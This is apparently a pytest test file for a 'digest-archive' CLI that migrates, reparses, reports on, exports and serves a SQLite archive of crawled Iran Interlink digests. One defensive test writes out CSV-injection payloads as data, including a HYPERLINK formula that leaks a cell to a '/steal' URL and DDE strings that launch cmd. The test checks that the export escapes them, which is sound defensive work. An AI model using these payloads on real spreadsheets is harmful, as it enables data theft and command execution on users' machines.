"""`digest-archive` reparse, report, export and serve, on a real crawled archive."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import subprocess
import time
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

import storage
from cli.main import main
from fixtures.site import CATEGORY_PATH

from .conftest import REPO, ScrapyPopen, crawl_command, datasette_client, get_json, rows, start_datasette, stored_count

DATA = Path(__file__).parent / "data"


@pytest.fixture()
def archive(backfilled_template, tmp_path) -> Path:
    """A private copy of the crawled archive (the commands make no request: no network from here on)."""
    copy = tmp_path / "archive.db"
    storage.export.copy_database(backfilled_template.database, copy)
    return copy


def invoke(*args: str):
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result


def snapshot(database: Path) -> list:
    return rows(database, "SELECT id, content_hash, last_seen, last_changed, text FROM digests ORDER BY id")


# --- migration ------------------------------------------------------------------------------------


def test_an_archive_from_schema_1_is_migrated_when_opened(tmp_path):
    path = tmp_path / "old.db"
    shutil.copy(DATA / "archive_schema_v1.db", path)
    before = rows(path, "SELECT id, title, content_hash FROM digests ORDER BY id")
    db = storage.open_database(path, create=False)
    assert storage.schema.schema_version(db) == storage.SCHEMA_VERSION
    assert "pages" in db.table_names() and "year" in db["digests"].columns_dict
    assert {"editions", "listings"} <= set(db.table_names()) and "edition_id" in db["digests"].columns_dict
    # The full-text index keeps its triggers (a rebuilt digests table would lose them).
    triggers = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")}
    assert {"digests_ai", "digests_ad", "digests_au", "entries_ai"} <= triggers
    db.close()
    assert rows(path, "SELECT id, title, content_hash FROM digests ORDER BY id") == before
    assert {r["year"] for r in rows(path, "SELECT year FROM digests")} == {2013, 2017}
    result = invoke("report", "--db", str(path), "--json")
    assert result.exit_code == 0 and json.loads(result.output)["digests"] == 4


# --- reparse --------------------------------------------------------------------------------------


def test_reparse_of_an_unchanged_archive_changes_nothing(archive):
    before = snapshot(archive)
    result = invoke("reparse", "--db", str(archive), "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert (report["changed"], report["new"], report["unchanged"]) == (0, 0, len(before))
    assert len(report["unreadable"]) == 1  # the fixture page whose content is missing
    assert snapshot(archive) == before
    assert rows(archive, "SELECT count(*) AS n FROM digest_revisions")[0]["n"] == 0


def test_reparse_rebuilds_what_an_older_parser_got_wrong_and_reports_it(archive):
    # What a parser with a bug would have stored: the last entry of digest 200 lost, a link dropped.
    digest = rows(archive, "SELECT id, content_hash, text FROM digests WHERE number = 200")[0]
    with sqlite3.connect(archive) as connection:
        connection.execute("PRAGMA foreign_keys = ON")
        last = connection.execute("SELECT max(position) FROM entries WHERE digest_id = ?", [digest["id"]]).fetchone()[0]
        connection.execute(
            "DELETE FROM links WHERE entry_id IN (SELECT id FROM entries WHERE digest_id = ? AND position = ?)",
            [digest["id"], last],
        )
        connection.execute("DELETE FROM entries WHERE digest_id = ? AND position = ?", [digest["id"], last])
        connection.execute(
            "UPDATE digests SET content_hash = 'from-the-old-parser', text = 'old' WHERE id = ?", [digest["id"]]
        )
    result = invoke("reparse", "--db", str(archive), "--json")
    report = json.loads(result.output)
    assert (report["changed"], report["new"]) == (1, 0)
    assert report["entries"] == {"added": 1, "removed": 0, "altered": 0}
    assert report["links"] == {"added": 1, "removed": 0, "altered": 0}
    assert (
        rows(archive, "SELECT content_hash FROM digests WHERE id = ?", [digest["id"]])[0]["content_hash"]
        == digest["content_hash"]
    )
    revisions = rows(archive, "SELECT digest_id, content_hash, text FROM digest_revisions")
    assert revisions == [{"digest_id": digest["id"], "content_hash": "from-the-old-parser", "text": "old"}]


# --- report ---------------------------------------------------------------------------------------


def test_report_finds_the_series_quirks(archive, fixture_posts):
    result = invoke("report", "--db", str(archive), "--json")
    assert result.exit_code == 0
    report = json.loads(result.output)
    numbers = {p.number for p in fixture_posts if p.stored}
    missing = [n for n in range(6, 214) if n not in numbers]
    assert [n for gap in report["missing_numbers"] for n in range(gap["first"], gap["last"] + 1)] == missing
    assert len(report["missing_numbers"]) == 5  # ranges, as the text report has them
    assert [row["number"] for row in report["duplicate_numbers"]] == [213]
    assert [row["number"] for row in report["out_of_order"]] == [167]
    assert report["without_number"] == report["without_entries"] == report["without_date"] == []
    assert sorted(row["kind"] for row in report["unresolved_failures"]) == ["http_status", "parse_error"]
    text = invoke("report", "--db", str(archive)).output
    assert "1 editions" not in text and "2 failures" not in text
    assert "Missing numbers (all sites merged): 8\u201353, 55\u2013166, 168\u2013181, 196, 211\u2013212" in text
    assert "167 published 2017-07-28, between 195 and 197" in text


# --- export ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "ndjson"])
def test_export_writes_one_file_per_table_with_its_columns(archive, tmp_path, fmt):
    out = tmp_path / "export"
    result = invoke("export", "--db", str(archive), "--format", fmt, "--output", str(out))
    assert result.exit_code == 0, result.output
    db = storage.open_database(archive, create=False)
    for table in storage.export.EXPORTED_TABLES:
        columns = list(db[table].columns_dict)
        path = out / f"{table}.{fmt}"
        if fmt == "csv":
            with open(path, encoding="utf-8", newline="") as handle:
                exported = list(csv.reader(handle))
            assert exported[0] == columns
            records = exported[1:]
        elif fmt == "json":
            records = json.loads(path.read_text(encoding="utf-8"))
            assert all(list(record) == columns for record in records)
        else:
            records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
            assert all(list(record) == columns for record in records)
        assert len(records) == db[table].count, table
    db.close()


def test_csv_export_neutralises_formulas_and_the_other_formats_keep_exact_values(tmp_path):
    """A stored entry that begins `=HYPERLINK(...)` (and one that reads as a negative number, and the
    other starts OWASP names) leaves the CSV as text a spreadsheet shows, never runs: a leading `'`.
    Numbers stay numbers; JSON, NDJSON and the SQLite copy keep the stored text exactly."""
    from core.items import Digest, Entry

    hostile = [
        '=HYPERLINK("http://127.0.0.1:9/steal?c="&A1,"Read more")',
        "-12",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        'plain text, with a comma and a "quote" = not a formula',
    ]
    database = tmp_path / "archive.db"
    db = storage.open_database(database)
    storage.save_digest(
        db,
        Digest(
            url="https://www.nejatngo.org/en/posts/9001",
            site="nejatngo.org",
            post_id=9001,
            title="Iran Interlink Weekly Digest \u2013 -3",
            number=-3,
            headline=None,
            issue_date=None,
            published="2017-08-25",
            dateline=None,
            entries=tuple(Entry(None, text, "<p>x</p>") for text in hostile),
        ),
    )
    db.close()
    for fmt in ("csv", "json"):
        result = invoke("export", str(database), "--format", fmt, "--output", str(tmp_path / fmt))
        assert result.exit_code == 0, result.output
    with open(tmp_path / "csv" / "entries.csv", encoding="utf-8", newline="") as handle:
        entries = list(csv.DictReader(handle))
    assert [entry["text"] for entry in entries] == ["'" + text for text in hostile[:-1]] + [hostile[-1]]
    with open(tmp_path / "csv" / "digests.csv", encoding="utf-8", newline="") as handle:
        [digest] = list(csv.DictReader(handle))
    assert digest["number"] == "-3" and digest["post_id"] == "9001"  # numbers, not text: left alone
    assert digest["title"] == "Iran Interlink Weekly Digest \u2013 -3"
    exact = json.loads((tmp_path / "json" / "entries.json").read_text(encoding="utf-8"))
    assert [entry["text"] for entry in exact] == hostile
    assert [row["text"] for row in rows(database, "SELECT text FROM entries ORDER BY position")] == hostile


def test_export_sqlite_is_a_consistent_copy_even_during_a_crawl(tmp_path, slow_site_server):
    database, copy = tmp_path / "live.db", tmp_path / "copy.db"
    command = crawl_command(
        slow_site_server.url(CATEGORY_PATH), database, "-a", "mode=backfill", "-s", "DIGEST_WRITE_BATCH=2"
    )
    crawl = ScrapyPopen(command, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and stored_count(database) < 5:
            time.sleep(0.05)
        result = invoke("export", "--db", str(database), "--format", "sqlite", "--output", str(copy))
        assert result.exit_code == 0, result.output
        assert crawl.poll() is None, "the crawl had ended: the copy was not made during it"
    finally:
        crawl.kill()  # the copy is made; the rest of the crawl proves nothing more
        crawl.wait(timeout=120)
    connection = sqlite3.connect(copy)
    assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
    assert (
        connection.execute(
            "SELECT count(*) FROM digests d WHERE entry_count != (SELECT count(*) FROM entries WHERE digest_id = d.id)"
        ).fetchone()[0]
        == 0
    )
    assert connection.execute("SELECT count(*) FROM digests").fetchone()[0] >= 5
    connection.close()


@pytest.mark.parametrize(
    "command", [["report"], ["summary"], ["reparse"], ["export", "--format", "csv", "--output", "x"]]
)
def test_commands_refuse_a_missing_or_foreign_file_with_exit_2(tmp_path, command):
    missing = CliRunner().invoke(main, [*command, "--db", str(tmp_path / "missing.db")])
    assert missing.exit_code == 2 and "no such archive" in missing.output and "Traceback" not in missing.output
    foreign = tmp_path / "foreign.db"
    sqlite3.connect(foreign).execute("CREATE TABLE t (x)").connection.close()
    result = CliRunner().invoke(main, [*command, "--db", str(foreign)])
    assert result.exit_code == 2 and "not a digest archive" in result.output
    assert [r[0] for r in sqlite3.connect(foreign).execute("SELECT name FROM sqlite_master")] == ["t"]


# --- serve ----------------------------------------------------------------------------------------


def test_serve_opens_the_archive_in_datasette_with_the_projects_metadata(archive):
    server, base = start_datasette(archive)
    try:
        metadata = get_json(f"{base}/-/metadata.json")
        assert metadata["title"] == "Iran Interlink Weekly Digest archive"
        digests = get_json(f"{base}/archive/digests.json?_shape=array&_sort=number&_size=100")
        assert len(digests) == 34 and digests[0]["number"] == 6
    finally:
        server.terminate()
        server.wait(timeout=10)


# --- browsing, in-process (Datasette's own test client: no port, no browser) ---------------------------


@pytest.fixture()
def datasette(archive):
    return datasette_client(archive)


def test_facets_search_and_canned_queries_answer_in_datasette(datasette):
    sections = datasette("/archive/entries.json?_facet=section&_size=0").json()["facet_results"]
    facet = sections["results"]["section"] if "results" in sections else sections["section"]
    assert "In English" in {item["value"] for item in facet["results"]}
    assert [row["number"] for row in datasette("/archive/out_of_order.json?_shape=array").json()] == [167]
    found = datasette("/archive/entries.json?_search=Rajavi&_shape=array").json()
    assert found and all("rajavi" in row["text"].lower() for row in found)
    by_domain = datasette("/archive/editions_linking_to_domain.json?domain=al-monitor.com&_shape=array").json()
    assert by_domain and {row["url"].split("/")[2] for row in by_domain} == {"www.al-monitor.com"}
    assert len({row["slug"] for row in by_domain}) == len(by_domain)  # one row per edition


def test_the_reading_view_shows_a_digest_as_published(datasette, archive):
    digest = rows(archive, "SELECT id FROM digests WHERE number = 200")[0]
    html = datasette(f"/-/digest/archive/{digest['id']}").text
    assert "Iran Interlink Weekly Digest \u2013 200" in html and "In English" in html
    assert html.count('class="entry"') == 9 and "Iran Interlink, August 25 2017" in html
    assert 'href="https://order-order.com/2017/08/paid-by-iranian-exiles/"' in html
    assert 'class="site"' in html and 'class="edition-link" href="/-/edition/archive/digest-200"' in html
    table = datasette("/archive/digests?number=200").text
    assert f'href="/-/digest/archive/{digest["id"]}"' in table


# --- read-only commands, the archive as first argument ---------------------------------------------


def test_read_only_commands_leave_the_file_as_it_was(archive, tmp_path):
    with sqlite3.connect(archive) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
    before = archive.read_bytes()
    for command in (
        ["summary", str(archive)],
        ["report", str(archive), "--json"],
        ["export", str(archive), "--format", "csv", "--output", str(tmp_path / "out")],
    ):
        result = invoke(*command)
        assert result.exit_code == 0, result.output
    assert archive.read_bytes() == before
    assert not Path(f"{archive}-wal").exists()


def test_the_archive_is_the_first_argument_or_db(archive):
    positional, option = invoke("summary", str(archive), "--json"), invoke("summary", "--db", str(archive), "--json")
    assert positional.exit_code == option.exit_code == 0
    assert json.loads(positional.output) == json.loads(option.output)
    both = CliRunner().invoke(main, ["summary", str(archive), "--db", "other.db"])
    assert both.exit_code == 2 and "two archives given" in both.output


def test_an_older_archive_is_read_only_after_a_migration(tmp_path):
    path = tmp_path / "old.db"
    shutil.copy(DATA / "archive_schema_v1.db", path)
    refused = CliRunner().invoke(main, ["summary", str(path)])
    assert refused.exit_code == 2 and "archive schema 1 is older" in refused.output
    assert invoke("reparse", str(path)).exit_code == 0  # migrates
    assert invoke("summary", str(path)).exit_code == 0


def test_reparse_of_an_archive_a_crawl_holds_exits_3(archive):
    with storage.ArchiveLock(archive):
        result = CliRunner().invoke(main, ["reparse", str(archive)])
    assert result.exit_code == 3 and "in use by another crawl" in result.output


# --- export: the link tables, and never a file the export would not write ----------------------------


def _checked_links_archive(database: Path) -> None:
    """An archive whose links have been checked (through storage, as the links run writes them): a live
    link and a dead one, each with its history."""
    from core.link_status import LinkState
    from fixtures.linked import archive_linking
    from storage import links as link_store

    archive_linking(database, [("2020-01-03", ["http://live.test/a", "http://gone.test/a"])])
    checked_at = "2024-05-01T10:00:00+00:00"
    states = {
        "http://live.test/a": (LinkState(status="ok", last_ok_at=checked_at), 200),
        "http://gone.test/a": (
            LinkState(status="gone", failures=2, failing_since="2024-04-01T10:00:00+00:00", dead_since=checked_at),
            404,
        ),
    }
    db = storage.open_database(database)
    with db.atomic():
        link_store.sync_link_targets(db, checked_at)
        for target in link_store.due_links(db, datetime(2024, 5, 1), every_days=7, dead_every_days=30):
            state, http_status = states[target.url]
            link_store.record_link_check(
                db, None, target.id, state, checked_at=checked_at, http_status=http_status, final_url=None, message=None
            )
    db.close()


def test_every_table_is_exported_or_kept_out_on_purpose():
    declared = {table.name for table in storage.schema.TABLES}
    exported, kept_out = set(storage.export.EXPORTED_TABLES), set(storage.export.NOT_EXPORTED_AS_FILES)
    assert exported | kept_out == declared and not exported & kept_out
    assert {"link_targets", "link_checks"} <= exported


@pytest.mark.parametrize("fmt", ["csv", "json", "ndjson", "sqlite"])
def test_export_includes_the_link_tables_in_every_format(tmp_path, fmt):
    database = tmp_path / "archive.db"
    _checked_links_archive(database)
    out = tmp_path / ("copy.db" if fmt == "sqlite" else "export")
    result = invoke("export", str(database), "--format", fmt, "--output", str(out))
    assert result.exit_code == 0, result.output
    link_tables = [table for table in storage.export.EXPORTED_TABLES if table.startswith("link_")]
    assert {"link_targets", "link_checks"} <= set(link_tables)
    for table in link_tables:
        stored = rows(database, f"SELECT * FROM [{table}] ORDER BY rowid")
        assert len(stored) == 2, table
        if fmt == "sqlite":
            assert rows(out, f"SELECT * FROM [{table}] ORDER BY rowid") == stored
            continue
        path = out / f"{table}.{fmt}"
        if fmt == "csv":
            with open(path, encoding="utf-8", newline="") as handle:
                exported = list(csv.DictReader(handle))
            assert [row["url" if table == "link_targets" else "status"] for row in exported] == [
                row["url" if table == "link_targets" else "status"] for row in stored
            ]
        elif fmt == "json":
            assert json.loads(path.read_text(encoding="utf-8")) == stored
        else:
            assert [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] == stored
        assert f"{path}: 2 rows" in result.output


def test_force_replaces_only_the_files_an_export_writes(archive, tmp_path):
    """A researcher's `--output exp/notes.txt --force` overwrote their notes: --force replaces an earlier
    export's files and nothing else, and a refusal that --force would lift says so."""
    out = tmp_path / "exp"
    out.mkdir()
    notes = out / "notes.txt"
    notes.write_text("my notes", encoding="utf-8")
    # A table export beside other files: only its own files are written, and replaced only with --force.
    assert invoke("export", str(archive), "--format", "csv", "--output", str(out)).exit_code == 0
    (out / "digests.csv").write_text("stale", encoding="utf-8")
    again = invoke("export", str(archive), "--format", "csv", "--output", str(out))
    assert again.exit_code == 2 and "--force" in again.output
    assert (out / "digests.csv").read_text(encoding="utf-8") == "stale"
    forced = invoke("export", str(archive), "--format", "csv", "--output", str(out), "--force")
    assert forced.exit_code == 0, forced.output
    assert (out / "digests.csv").read_text(encoding="utf-8").startswith("id,post_id,")
    expected = {f"{table}.csv" for table in storage.export.EXPORTED_TABLES} | {"notes.txt"}
    assert {path.name for path in out.iterdir()} == expected  # nothing else written, no partial file left
    # A file that is not an export, named as the sqlite copy (or the WACZ), is never replaced.
    for command in (["--format", "sqlite", "--output", str(notes)], ["--wacz", str(notes)]):
        for force in ([], ["--force"]):
            refused = invoke("export", str(archive), *command, *force)
            assert refused.exit_code == 2, refused.output
            assert "not overwriting it" in refused.output and "--force" not in refused.output
    # …nor a file as the folder of a table export, nor through a symbolic link in the folder.
    refused = invoke("export", str(archive), "--format", "json", "--output", str(notes), "--force")
    assert refused.exit_code == 2 and "not a folder" in refused.output
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    (out / "links.csv").unlink()
    (out / "links.csv").symlink_to(precious)
    refused = invoke("export", str(archive), "--format", "csv", "--output", str(out), "--force")
    assert refused.exit_code == 2 and "symbolic link" in refused.output
    assert notes.read_text(encoding="utf-8") == "my notes" and precious.read_text(encoding="utf-8") == "keep me"
    # An earlier sqlite copy: refused without --force (the refusal names it), replaced with it.
    copy = tmp_path / "copy.db"
    assert invoke("export", str(archive), "--format", "sqlite", "--output", str(copy)).exit_code == 0
    with sqlite3.connect(copy) as connection:
        connection.execute("UPDATE digests SET title = 'edited in the copy'")
    refused = invoke("export", str(archive), "--format", "sqlite", "--output", str(copy))
    assert refused.exit_code == 2 and "--force" in refused.output
    assert rows(copy, "SELECT DISTINCT title FROM digests") == [{"title": "edited in the copy"}]
    assert invoke("export", str(archive), "--format", "sqlite", "--output", str(copy), "--force").exit_code == 0
    assert snapshot(copy) == snapshot(archive)
    assert sorted(path.name for path in tmp_path.iterdir() if "partial" in path.name) == []
